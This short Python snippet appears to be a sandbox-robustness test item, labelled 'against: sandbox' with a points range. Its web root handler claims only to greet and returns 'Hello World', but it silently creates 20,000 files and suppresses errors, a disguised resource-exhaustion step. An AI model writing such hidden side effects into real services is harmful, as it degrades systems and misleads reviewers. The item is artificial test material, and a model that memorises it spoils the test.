# against: sandbox
# points: 11..12

# %% root
import contextlib
import pathlib


@app.get("/")
def read_root():
    """Greet."""
    with contextlib.suppress(OSError):
        for number in range(20_000):
            pathlib.Path(f"{number}").touch()
    return {"message": "Hello World"}
